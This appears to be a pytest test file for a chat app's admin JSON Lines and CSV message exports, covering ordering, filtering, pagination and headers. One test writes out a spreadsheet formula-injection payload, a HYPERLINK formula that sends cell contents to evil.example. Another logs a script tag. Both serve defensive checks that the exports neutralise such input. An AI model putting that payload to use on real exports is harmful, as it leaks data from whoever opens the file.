import csv
import io
import json
from pathlib import Path

import pytest

from chatapp.domain.model import Draft
from chatapp.store.message_log import MessageLog
from tests.support.pages import Browser
from tests.support.records import say

MANY = 1_100
"""More than is read from the log at a time."""


def test_json_lines_are_the_lines_of_the_log(
    admin: Browser, log: MessageLog, tmp_path: Path
) -> None:
    for text in ("one", "zwei\nüber\u2028lang", "three"):
        say(log, text)

    answer = admin.get("/admin/messages.jsonl")

    (segment,) = tmp_path.glob("messages/*.jsonl")
    assert answer.data.split(b"\n")[:-1] == segment.read_bytes().split(b"\n")[-2::-1]
    assert answer.headers["Content-Disposition"] == 'attachment; filename="messages.jsonl"'


def test_a_download_has_exactly_what_is_listed(admin: Browser, log: MessageLog) -> None:
    say(log, "tea, please", room="tea")
    say(log, "hola")
    say(log, "tea, tomorrow", room="tea", sender="Bruno")

    lines = admin.get("/admin/messages.jsonl?room=tea&text=tea&sender=ana").data.splitlines()
    table = cells(admin.get("/admin/messages.csv?room=tea&text=tea&sender=ana").text)

    assert [json.loads(line)["text"] for line in lines] == ["tea, please"]
    assert [row["text"] for row in table] == ["tea, please"]


def test_a_download_goes_beyond_one_page(admin: Browser, log: MessageLog) -> None:
    for number in range(MANY):
        log.append(Draft(room="general", sender="ana", text=f"text {number}"))
    log.flush()

    lines = admin.get("/admin/messages.jsonl").data.splitlines()
    table = cells(admin.get("/admin/messages.csv").text)

    assert [json.loads(line)["n"] for line in lines] == list(range(MANY, 0, -1))
    assert [int(row["n"]) for row in table] == list(range(MANY, 0, -1))


def test_a_csv_is_what_spreadsheets_take_for_utf_8(admin: Browser, log: MessageLog) -> None:
    text = 'say "hi", then\nnew line; ü €'
    say(log, text, sender="Zoë")

    answer = admin.get("/admin/messages.csv")

    assert answer.data.startswith(b"\xef\xbb\xbfn,room,seq,type,at,sender,text,")
    assert b'"say ""hi"", then\n' in answer.data
    assert answer.headers["Content-Disposition"] == 'attachment; filename="messages.csv"'
    (row,) = cells(answer.text)
    assert (row["sender"], row["text"], row["line"]) == ("Zoë", text, "1")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_a_csv_cell_is_never_a_formula(admin: Browser, log: MessageLog, start: str) -> None:
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    say(log, formula, sender="=1+1")

    (row,) = cells(admin.get("/admin/messages.csv").text)

    assert row["text"] == "'" + formula
    assert row["sender"] == "'=1+1"


def test_script_in_a_download_is_not_a_page(admin: Browser, log: MessageLog) -> None:
    say(log, "<script>alert(1)</script>")

    for path in ("/admin/messages.jsonl", "/admin/messages.csv"):
        answer = admin.get(path)

        assert answer.mimetype in ("application/x-ndjson", "text/csv")
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["Content-Disposition"].startswith("attachment")
        assert answer.headers["Cache-Control"] == "no-store"


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
